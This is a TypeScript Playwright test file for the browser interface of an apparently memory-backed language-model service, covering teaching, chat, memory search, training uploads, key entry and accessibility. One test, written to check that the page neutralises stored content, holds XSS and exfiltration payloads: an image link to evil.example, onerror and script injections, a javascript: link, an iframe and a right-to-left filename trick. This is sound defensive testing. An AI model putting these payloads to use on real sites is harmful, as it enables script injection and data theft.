// The page in a real browser over the real server with a fake engine: what a person does in each view, what it looks like at the
// narrowest and the widest, and that what others wrote does nothing. Skipped where there is no Chromium.
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startServer, type TestServer } from '../../test/support/server.js';
import { VIEWS } from '../src/routes.js';
import { buildPage } from './built.js';
import { CHROMIUM, launch, openPage, type Watched } from './chromium.js';

const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const SLOW = 600_000;

describe.skipIf(CHROMIUM === undefined)('in a browser', { timeout: SLOW }, () => {
  let browser: Browser;
  let server: TestServer;
  let watched: Watched | undefined;

  beforeAll(async () => {
    await buildPage();
    browser = await launch();
  }, SLOW);

  afterEach(async () => {
    await watched?.context.close();
    watched = undefined;
    await server.close();
  });

  afterAll(async () => {
    await browser.close();
  });

  async function open(options: Parameters<typeof openPage>[2] = {}): Promise<Page> {
    watched = await openPage(browser, server.running, options);
    return watched.page;
  }

  async function begin(
    options: Parameters<typeof openPage>[2] = {},
    prepare: (server: TestServer) => void = () => undefined,
  ): Promise<Page> {
    server = await startServer();
    prepare(server);
    return open(options);
  }

  /** Nothing failed, and nobody else was asked for anything. */
  function expectQuiet(): void {
    expect(watched!.complaints).toEqual([]);
    expect(watched!.strangers).toEqual([]);
  }

  it('teaches: the answer before and after, the loss, the receipt, and undo', async () => {
    const page = await begin();
    await page.getByRole('button', { name: 'Example 1' }).click();
    await page.getByRole('button', { name: 'Learn' }).click();
    await page.getByText('Remembered as').waitFor();
    const proof = page.getByRole('region', { name: 'Proof' });
    await proof.getByRole('button', { name: 'Memory', exact: true }).waitFor();
    expect(await proof.getByRole('article').first().innerText()).toContain('I know 9 words.');
    expect(await proof.getByRole('article').last().innerText()).toContain('The Dallas Cowboys!');
    expect(await proof.innerText()).toContain('Loss: 2.00 → 2.00 in 1 step.');
    expect(await proof.innerText()).toContain('3.20 → 0.050');
    // The badge opens what the answer rests on, and Escape closes it.
    await proof.getByRole('button', { name: 'Memory', exact: true }).click();
    await page.getByRole('dialog').getByRole('link', { name: 'm-000000' }).waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    await page.getByRole('button', { name: 'Take it back' }).click();
    await page.getByText('Taken back.').waitFor();
    expect(server.api.opened.calls.filter(([name]) => name === 'undo')).toEqual([['undo', 'm-000000']]);
    expectQuiet();
  });

  it('shows what contradicts side by side, and forgets the old one if told to', async () => {
    const old = {
      id: 'm-old000',
      text: 'The kiln is blue.',
      createdAt: '2026-01-02T03:04:05.000Z',
      state: 'remembered' as const,
    };
    const page = await begin({}, ({ api }) => {
      api.opened.held.push({ ...old });
      api.opened.receipt = { contradicts: [{ id: old.id, text: old.text, score: 0.9 }] };
    });
    await page.getByRole('radio', { name: 'Text' }).check();
    await page.getByRole('textbox', { name: 'Text' }).fill('The kiln is red.');
    await page.getByRole('button', { name: 'Learn' }).click();
    const conflict = page.getByRole('region', { name: 'An older memory no longer holds' });
    expect(await conflict.innerText()).toMatch(/The kiln is blue\.[\s\S]*The kiln is red\./);
    await conflict.getByRole('button', { name: 'Replace: forget the old one' }).click();
    await conflict.waitFor({ state: 'detached' });
    expect(server.api.opened.held.map(({ text, state }) => [text, state])).toEqual([
      [old.text, 'forgotten'],
      ['The kiln is red.', 'remembered'],
    ]);
    expectQuiet();
  });

  it('finds a learning again after a reload, and shows what others teach without one', async () => {
    const page = await begin({}, ({ api }) => {
      api.opened.promptMs = 15_000;
    });
    await page.getByRole('radio', { name: 'Text' }).check();
    await page.getByRole('textbox', { name: 'Text' }).fill('The kiln is red.');
    await page.getByRole('button', { name: 'Learn' }).click();
    await page.getByText('Opening the model').waitFor();
    await page.reload();
    await page.getByRole('heading', { name: 'A learning that is under way' }).waitFor();
    await page.getByText('Remembered as').waitFor();
    await page.evaluate(() => (location.hash = '#/memories'));
    await page.getByText('The kiln is red.').waitFor();
    server.api.opened.promptMs = 0;
    await server.post('/engram/v1/brains/default/memories', { text: 'Told by another program.' });
    await page.getByText('Told by another program.').waitFor({ timeout: 10_000 });
    expectQuiet();
  });

  it('chats: streams, edits into a branch, asks again, compares with the model alone, stops', async () => {
    const page = await begin({ path: '#/chat' }, ({ api }) => {
      api.opened.held.push({
        id: 'm-1',
        text: 'Mara Voss runs the kiln.',
        createdAt: '2026-01-02T03:04:05.000Z',
        state: 'remembered',
      });
    });
    const message = page.getByRole('textbox', { name: 'Message' });
    await message.fill('Mara Voss runs what?');
    await message.press('Enter');
    await page.getByRole('button', { name: 'Memory', exact: true }).waitFor();
    await page.getByRole('button', { name: 'Without memories' }).click();
    await page.getByRole('region', { name: 'Without memories' }).getByText('I know 4 words.').first().waitFor();
    await page.getByRole('button', { name: 'Edit' }).click();
    await page.getByRole('textbox', { name: 'Edit' }).fill('Hello there');
    await page.getByRole('button', { name: 'Send' }).first().click();
    await page.getByText('I know 2 words.').first().waitFor();
    await page.getByRole('button', { name: 'Version before' }).click();
    await page.getByText('Mara Voss runs what?').waitFor();
    await page.getByText(/of 2,048 tokens of context/).waitFor();
    server.api.opened.delayMs = 1000;
    await message.fill('A question that takes its time, word by word');
    await message.press('Enter');
    await page.getByText('I know').last().waitFor();
    await page.getByRole('button', { name: 'Stop' }).click();
    await page.getByText('Stopped.').waitFor();
    // The conversation is still there after a reload.
    await page.reload();
    await page.getByText('Stopped.').waitFor();
    expectQuiet();
  });

  it('does nothing that others wrote: no scripts, no images, no other hosts, no turned text', async () => {
    const hostile =
      '![leak](https://evil.example/?q=1) <img src=x onerror="window.harmed=1"> <script>window.harmed=1</script> ' +
      '[click](javascript:window.harmed=1) safe\u202Etxt.exe <iframe src=https://evil.example></iframe>';
    const page = await begin({ path: '#/chat' }, ({ api }) => {
      api.opened.held.push({ id: 'm-1', text: hostile, createdAt: '2026-01-02T03:04:05.000Z', state: 'remembered' });
      api.opened.held.push({
        id: 'm-2',
        text: `long ${'x'.repeat(2 ** 20)}`,
        createdAt: '2026-01-02T03:04:05.000Z',
        state: 'remembered',
      });
    });
    const message = page.getByRole('textbox', { name: 'Message' });
    await message.fill('![leak](http');
    await message.press('Enter');
    await page.getByRole('button', { name: 'Memory', exact: true }).waitFor();
    await page.locator('.markdown').getByText('click').click();
    await message.fill('long xxxxxxx');
    await message.press('Enter');
    await page.getByText('more characters not shown').waitFor();
    for (const path of ['#/memories', '#/memories/m-1', '#/memories/m-2']) {
      await page.evaluate((hash) => (location.hash = hash), path);
      await page.getByText('‹U+202E›').first().waitFor();
    }
    const harm = await page.evaluate(() => ({
      ran: (window as { harmed?: number }).harmed === 1,
      loads: document.querySelectorAll('img, iframe, main script').length,
    }));
    expect(harm).toEqual({ ran: false, loads: 0 });
    expectQuiet();
  });

  it('searches, forgets and undoes memories', async () => {
    const page = await begin({ path: '#/memories' }, ({ api }) => {
      for (let i = 0; i < 150; i++) {
        api.opened.held.push({
          id: `m-${i}`,
          text: `Fact number ${i}`,
          createdAt: '2026-01-02T03:04:05.000Z',
          state: 'remembered',
        });
      }
    });
    await page.getByText('150 memories').waitFor();
    await page.getByRole('button', { name: 'Show more (50)' }).click();
    await page.getByRole('searchbox').fill('NUMBER 149');
    await page.getByText('1 memory').waitFor();
    await page.getByRole('link', { name: /Fact number 149/ }).click();
    await page.getByRole('button', { name: 'Forget' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Forget' }).click();
    await page.getByText('forgotten').last().waitFor();
    expect(server.api.opened.held[149]!.state).toBe('forgotten');
    expectQuiet();
  });

  it('previews rows before it sends them, and names the bad line', async () => {
    const page = await begin({ path: '#/training' });
    const file = (text: string) => ({ name: 'rows.jsonl', mimeType: 'application/jsonl', buffer: Buffer.from(text) });
    const input = page.locator('input[type=file]');
    await input.setInputFiles(file('{"prompt":"p","completion":"c"}\n{"prompt":\n'));
    await page.getByText('Line 2 is not JSON.').first().waitFor();
    expect(await page.getByRole('button', { name: 'Train', exact: true }).isDisabled()).toBe(true);
    await input.setInputFiles(file('{"prompt":"p","completion":"learned words"}\n'));
    expect(await page.locator('.trained').innerText()).toContain('learned words');
    await page.getByRole('button', { name: 'Train', exact: true }).click();
    await page.getByRole('heading', { name: /ftjob-|ft:/ }).waitFor();
    expectQuiet();
  });

  it('asks for a key where it has none, and says when the server is gone', async () => {
    server = await startServer();
    const context = await browser.newContext();
    const page = await context.newPage();
    page.setDefaultTimeout(60_000);
    await page.goto(server.running.url);
    await page.getByRole('heading', { name: 'A key, please' }).waitFor();
    await page.getByLabel('Key').fill('wrong');
    await page.getByRole('button', { name: 'Use it' }).click();
    await page.getByText('The server does not know this key.').waitFor();
    await page.getByLabel('Key').fill(server.running.key);
    await page.getByRole('button', { name: 'Use it' }).click();
    await page.getByRole('heading', { name: 'Teach' }).waitFor();
    expect(page.url()).not.toContain(server.running.key);
    await page.goto(`${server.running.url}/#/memories`);
    await page.getByText('Nothing is remembered yet.').waitFor();
    await server.running.close(10);
    await page.getByText('The connection to the server is lost.').waitFor();
    await page.getByRole('button', { name: 'Undo the last change' }).first().click();
    await page.getByText('The server cannot be reached.').waitFor();
    await context.close();
  });

  it('can be used with the keyboard alone', async () => {
    const page = await begin();
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('To the content');
    await page.keyboard.press('Enter');
    const reach = async (name: string): Promise<void> => {
      for (let i = 0; i < 40; i++) {
        if ((await page.evaluate(() => document.activeElement?.textContent)) === name) return;
        await page.keyboard.press('Tab');
      }
      throw new Error(`${name} is not reached.`);
    };
    await reach('Example 1');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Shift+Tab');
    await reach('Learn');
    await page.keyboard.press('Enter');
    await page.getByText('Remembered as').waitFor();
    expectQuiet();
  });

  it.each([
    { width: 320, height: 640, dark: false, language: 'de-DE' },
    { width: 1600, height: 900, dark: true, language: 'en-GB' },
  ])('fits and has no finding of axe: $width px, dark $dark, $language', async (look) => {
    const page = await begin(look, ({ api }) => {
      const long = {
        id: 'm-1',
        text: `${'Donaudampfschifffahrt'.repeat(30)} `.repeat(3),
        createdAt: '2026-01-02T03:04:05.000Z',
      };
      api.opened.held.push(
        { ...long, state: 'remembered' },
        { id: 'm-2', text: 'gone', createdAt: long.createdAt, state: 'forgotten' },
      );
    });
    await page.getByRole('button', { name: /(Example|Beispiel) 1/ }).click();
    await page.getByRole('button', { name: /^(Learn|Lernen)$/ }).click();
    await page.locator('.receipt').waitFor();
    await page.evaluate(AXE);
    const found: string[] = [];
    for (const path of [...VIEWS, 'memories/m-1']) {
      await page.evaluate((hash) => (location.hash = `#/${hash}`), path);
      await page.locator('main h1').waitFor();
      await page.locator('.loading').first().waitFor({ state: 'detached' });
      const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
      if (wide > 0) found.push(`${path}: ${wide} px too wide`);
      interface Violation {
        id: string;
        nodes: { html: string }[];
      }
      const violations = await page.evaluate(() =>
        (window as unknown as { axe: { run: () => Promise<{ violations: Violation[] }> } }).axe
          .run()
          .then((result) => result.violations),
      );
      found.push(
        ...violations.map(
          ({ id, nodes }) => `${path}: ${id}: ${nodes.map(({ html }) => html.slice(0, 120)).join(' | ')}`,
        ),
      );
      if (process.env['SCREENSHOTS'] !== undefined) {
        await page.screenshot({
          path: `${process.env['SCREENSHOTS']}/${path.replace('/', '-')}-${look.width}.png`,
          fullPage: true,
        });
      }
    }
    expect(found).toEqual([]);
    expectQuiet();
  });
});
